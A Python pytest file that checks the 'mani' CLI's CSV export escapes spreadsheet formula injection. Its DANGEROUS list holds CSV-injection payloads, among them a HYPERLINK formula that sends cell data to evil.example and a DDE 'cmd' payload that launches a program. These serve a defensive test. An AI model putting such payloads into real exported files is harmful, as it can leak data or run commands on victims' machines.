"""Every CSV mani writes is safe to open in a spreadsheet, and `mani jobs export` writes a job's log."""

from __future__ import annotations

import csv
import json

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from backend.core.csv_out import csv_writer, spreadsheet_safe
from models import Recipient
from models.db import session_scope
from tests.support.callbacks import make_job

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
             "\tindent", "\rreturn"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_cells_get_a_quote(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("'" + value) == "'" + value  # idempotent
    assert spreadsheet_safe("plain = text") == "plain = text" and spreadsheet_safe(None) == ""


def test_mani_jobs_export_writes_one_safe_row_per_recipient(sqlite_db, tmp_path):
    from cli import app

    job_id = make_job(company_id=None, recipients=6, recipient_status="permanently_failed")
    with session_scope() as session:
        ids = [r.id for r in session.query(Recipient).filter(Recipient.job_id == job_id).order_by(Recipient.id)]
        for rid, value in zip(ids, DANGEROUS):
            session.execute(update(Recipient).where(Recipient.id == rid).values(
                firstname=value, lastname=value, last_error=value, attempts=3))
    out = tmp_path / "log.csv"
    result = CliRunner().invoke(app, ["jobs", "export", str(job_id), "--output", str(out), "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["rows"] == 6
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 6
    assert {"email", "firstname", "lastname", "status", "attempts", "last_error"} <= set(rows[0])
    for row, value in zip(rows, DANGEROUS):
        assert row["firstname"] == row["lastname"] == row["last_error"] == "'" + value
        assert row["status"] == "permanently_failed" and row["attempts"] == "3"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    missing = CliRunner().invoke(app, ["jobs", "export", str(job_id), "--output", str(tmp_path / "no" / "x.csv")])
    assert missing.exit_code == 2 and "Traceback" not in missing.output and "cannot write" in missing.output


def test_the_writer_writes_what_it_is_given(tmp_path):
    path = tmp_path / "x.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        assert csv_writer(handle).writerows([["a", "=1"], ["b,c", None]]) == 2
    assert path.read_bytes() == b"a,'=1\r\n\"b,c\",\r\n"
